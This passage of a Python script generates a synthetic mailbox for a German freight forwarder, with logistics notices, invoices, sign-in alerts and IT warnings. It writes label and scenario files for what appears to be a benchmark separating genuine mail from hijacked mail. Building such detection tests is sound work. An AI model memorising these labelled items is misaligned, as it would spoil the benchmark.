        ("Eingangsrechnung zugeordnet", ["Frachtführer: {c}", "Rechnung erfasst: {d}", "Prüfung: Disposition"])]
CARR = ["Verhoeven Transport B.V.", "TRANS-POL Sp. z o.o.", "TransCarpatia SRL", "Zawadzki Transport", "Dirk Schäfer Transporte", "Eigenfahrzeug DU-RP 214"]


def month_orders(t):
    pre = f"{t.year % 100}-"
    cand = [o for o in ORDERS if o.startswith(pre)]
    return cand or ORDERS


d0 = datetime.datetime(2024, 9, 3, tzinfo=BER)
wk = 0
while d0 < datetime.datetime(2025, 6, 27, tzinfo=BER):
    for _ in range(R.choice((1, 1, 2))):
        day = d0 + datetime.timedelta(days=R.randint(0, 4))
        t = at(day.year, day.month, day.day, R.randint(6, 19), R.randint(0, 59))
        st, ls = R.choice(STAT)
        tms_note(t, R.choice(month_orders(t)), st, [l.format(c=R.choice(CARR), d=t.strftime("%d.%m.%Y"), h=t.strftime("%H:%M")) for l in ls])
    if wk % 2 == 0:
        mon = d0 - datetime.timedelta(days=d0.weekday())
        t = at(mon.year, mon.month, mon.day, 5, 30)
        csv = "Auftrag;Status;Frachtführer;Ladedatum;Ziel\r\n" + "".join(f"{R.choice(month_orders(t))};{R.choice(['offen', 'unterwegs', 'abgeliefert', 'POD fehlt'])};"
                                                                       f"{R.choice(CARR)};{t:%d.%m.%Y};{R.choice(['Venlo', 'Genk', 'Poznań', 'Arad', 'Rotterdam', 'Breda'])}\r\n" for _ in range(R.randint(6, 14)))
        tms_note(t, "Tagesbericht", "Tagesbericht Disposition", [f"Stichtag: {t:%d.%m.%Y}", "Offene Aufträge: siehe Anhang"],
                 subj=f"[DISPOnova] Tagesbericht Disposition {t:%d.%m.%Y}", atts=[(f"Tagesbericht_{t:%Y%m%d}.csv", csv.encode("utf-8-sig"), "text/csv")])
    d0 += datetime.timedelta(days=7); wk += 1

t = at(2025, 2, 17, 5, 30)
tms_note(t, "Tagesbericht", "Tagesbericht Disposition", [f"Stichtag: {t:%d.%m.%Y}", "Offene Aufträge: siehe Anhang"], GH,
         ("G13", "TMS daily report with a CSV attachment at 05:30 (internal, no reply headers)"), subj=f"[DISPOnova] Tagesbericht Disposition (Woche 8) {t:%d.%m.%Y}",
         atts=[(f"Tagesbericht_KW08_{t:%Y%m%d}.csv", ("Auftrag;Status;Frachtführer;Ladedatum;Ziel\r\n25-0207;abgeliefert;Eigenfahrzeug DU-RP 220;18.02.2025;Rotterdam\r\n"
                                                     "25-0219;abgeliefert;Eigenfahrzeug DU-RP 214;12.02.2025;Tilburg\r\n25-0233;POD fehlt;Eigenfahrzeug DU-RP 214;05.03.2025;Breda\r\n").encode("utf-8-sig"),
                "text/csv")])
tms_note(at(2025, 3, 3, 8, 0), "25-0107", "POD fehlt seit 45 Tagen", ["Frachtführer: Zawadzki Transport", "Ablieferung laut Status: 16.01.2025",
         "Hinweis: Original-CMR für Abrechnung anfordern"], GH, ("G12", "TMS reminder notification with an intranet link (no reply headers)"))

fp_routes = ["Duisburg (DE-47) → Poznań (PL-6)", "Duisburg (DE-47) → Arad (RO-31)", "Venlo (NL-59) → Duisburg (DE-47)", "Łódź (PL-9) → Duisburg (DE-47)",
             "Rotterdam (NL-30) → Duisburg (DE-47)"]
fp_offer = ["{d}, 13,6 ldm Plane, 24 t, {p} EUR", "{d}, 8 ldm, 9 t Stückgut, Preis auf Anfrage", "{d}, Mega 100 m³, 14 t, {p} EUR", "{d}, Kühlkoffer 33 Pal., {p} EUR"]
tt = datetime.datetime(2024, 9, 5, tzinfo=BER)
while tt < datetime.datetime(2025, 6, 25, tzinfo=BER):
    t = at(tt.year, tt.month, tt.day, R.choice((6, 7, 12, 16)), R.randint(0, 59))
    fp_alert(t, R.choice(fp_routes), [R.choice(fp_offer).format(d=(t + datetime.timedelta(days=R.randint(1, 5))).strftime("%d.%m."), p=R.randint(6, 16) * 100)
                                      for _ in range(R.randint(1, 4))])
    tt += datetime.timedelta(days=R.randint(8, 13))
fp_alert(at(2025, 3, 25, 7, 4), "Duisburg (DE-47) → Poznań (PL-6)", ["27.03., 13,6 ldm Plane, 24 t, 1.100 EUR", "28.03., Mega 100 m³, 12 t, 1.250 EUR",
                                                                   "31.03., 13,6 ldm Plane, 22 t, 1.050 EUR"], GH,
         ("G9", "freight exchange load-match alert with many tracked links (no reply headers)"))
for i, (y, mo) in enumerate([(2024, 10), (2024, 11), (2024, 12), (2025, 1), (2025, 2), (2025, 3), (2025, 4), (2025, 5), (2025, 6)]):
    t = at(y, mo, 2 if mo != 2 else 3, 4, R.randint(0, 59))
    lab = (GH, ("G31", "freight exchange's monthly invoice with a PDF (no reply headers)")) if (y, mo) == (2025, 3) else (None, None)
    fp_invoice(t, f"{mo - 1 if mo > 1 else 12:02d}/{y if mo > 1 else y - 1}", f"FP-R-{y}-{R.randint(10000, 99999)}",
               "118,86" if (y, mo) < (2025, 2) else "201,11", lab[0], lab[1])


def fp_security(t, device, place, label=None, scen=None):
    plain = (f"Hallo Frau Brückner,\n\nwir haben eine neue Anmeldung bei Ihrem FrachtPilot-Konto festgestellt:\n\nGerät: {device}\nOrt: {place} (IP 80.147.23.118)\n"
             f"Zeit: {t.astimezone(BER):%d.%m.%Y %H:%M} Uhr\n\nWaren Sie das? Dann ist nichts weiter zu tun.\nFalls nicht, ändern Sie bitte sofort Ihr Passwort: "
             "https://app.frachtpilot.example/konto/sicherheit\n\nIhr FrachtPilot-Team")
    html = '<html><body style="font-family:Arial,sans-serif;font-size:14px">' + esc(plain).replace("https://app.frachtpilot.example/konto/sicherheit",
           '<a href="https://app.frachtpilot.example/konto/sicherheit">https://app.frachtpilot.example/konto/sicherheit</a>') + "</body></html>"
    return notice(fp, "ses", t, "Neue Anmeldung bei Ihrem FrachtPilot-Konto", plain, html, label=label, scen=scen,
                  extra=[("Feedback-ID", f"::1.eu-central-1.{alnum(43)}=:AmazonSES"), ("X-SES-Outgoing", f"{t.astimezone(UTC):%Y.%m.%d}-54.240.7.14")])


fp_security(at(2024, 10, 21, 8, 2), "Windows 10 · Chrome 130", "Duisburg, Deutschland")
fp_security(at(2025, 2, 10, 7, 48), "Windows 11 · Edge 132", "Duisburg, Deutschland", GH,
            ("G11", "freight exchange's real 'new sign-in' security notice with a password-change link"))
for (y, mo, d) in [(2024, 10, 8), (2024, 10, 29), (2024, 11, 19), (2024, 12, 10), (2025, 1, 14), (2025, 2, 4), (2025, 3, 18), (2025, 4, 8), (2025, 4, 29),
                   (2025, 5, 20), (2025, 6, 10)]:
    datev_note(at(y, mo, d, 6, R.randint(0, 50)), R.randint(2, 9))
datev_note(at(2025, 2, 24, 6, 14), 7, GH, ("G15", "DATEV approval notification with a link to the approval portal"))
kw = 37
tt = datetime.datetime(2024, 9, 12, tzinfo=BER)
NEWS = ["CO2-Maut: Was sich 2025 für Speditionen ändert", "Rheinpegel Kaub fällt - Binnenschiff ausgelastet", "Fahrermangel: Branche fordert Führerschein-Reform",
        "Frachtenbörsen: Neue Betrugsmasche mit Phantomfrachtführern", "Diesel-Index Oktober", "Logport: Neues Terminal eröffnet", "A40-Brücke: Sperrungen im Winter",
        "Polen: e-TOLL-Kontrollen verschärft", "ADR 2025: Die wichtigsten Änderungen", "Rumänien: Schengen-Vollmitgliedschaft seit Januar", "Mindestlohn und Kabotage",
        "Reifen, Planen, Ladungssicherung: Neue VDI 2700", "Zoll: ATLAS-Ausfuhr wird umgestellt", "Spotmarkt-Frachtpreise im Februar", "Hafen Rotterdam: Rekord bei Containern"]
while tt < datetime.datetime(2025, 6, 27, tzinfo=BER):
    t = at(tt.year, tt.month, tt.day, 6, R.randint(0, 40))
    newsletter(t, tt.isocalendar()[1], R.sample(NEWS, 3))
    tt += datetime.timedelta(days=14)
for (y, mo) in [(2024, 10), (2024, 11), (2024, 12), (2025, 1), (2025, 2), (2025, 3), (2025, 4), (2025, 5), (2025, 6)]:
    t = at(y, mo, 5, 3, R.randint(0, 59))
    maut_note(t, f"{mo - 1 if mo > 1 else 12:02d}/{y if mo > 1 else y - 1}")

# internal IT notices
for t, subj, text in [
        (at(2024, 10, 15, 14, 0), "Achtung: gefälschte Paketdienst-Mails", "Hallo zusammen,\n\nderzeit kommen vermehrt gefälschte Mails im Namen von Paketdiensten "
         "(„Zustellung fehlgeschlagen“). Bitte keine Links anklicken und solche Mails an it-service@ weiterleiten."),
        (at(2025, 2, 18, 10, 30), "Wartung Exchange-Server Samstag 22.02., 18:00-22:00", "Hallo zusammen,\n\nam Samstag, 22.02., installieren wir das "
         "Exchange-Update (CU15). Zwischen 18:00 und 22:00 Uhr ist der Mailserver nicht erreichbar, Outlook arbeitet offline. Mobilgeräte synchronisieren danach "
         "automatisch."),
        (at(2025, 5, 12, 9, 0), "Erinnerung: Passwortwechsel bis 31.05.", "Hallo zusammen,\n\nbitte denkt an den halbjährlichen Passwortwechsel bis zum 31.05. "
         "(Strg+Alt+Entf > Kennwort ändern). Wir fragen euch niemals per Mail nach eurem Passwort.")]:
    emit(itsvc, "ol19", t, DISPO, None, subj, [], text + itsvc.sig, topic=subj)


# ================================================================ write, in arrival order
pending.sort(key=lambda x: (x[0], x[1]))
labels = ["mailbox\tmessage_id\tlabel\tkind"]
scen = ["file\tscenario\tdescription"]
seen = set()
for i, (t, _, folder, raw, lab, sc) in enumerate(pending, 1):
    path = f"mailboxes/{MB}/{folder}/{i}.eml"
    with open(f"{root}/{path}", "w", encoding="utf-8", newline="") as f: f.write(raw)
    if lab:
        if lab[0] in seen: raise SystemExit(f"duplicate Message-ID {lab[0]}")
        seen.add(lab[0])
        labels.append(f"{MB}\t{lab[0]}\t{lab[1][0]}\t{lab[1][1]}")
        if not sc: raise SystemExit(f"labelled message without scenario: {lab}")
        scen.append(f"{path}\t{sc[0]}\t{sc[1]}")
open(f"{root}/labels.tsv", "w", encoding="utf-8").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w", encoding="utf-8").write("\n".join(scen) + "\n")
print(f"{len(pending)} messages, {len(labels) - 1} labelled ({sum(1 for l in labels[1:] if l.split(chr(9))[2] == 'hijack')} hijack) -> {root}")
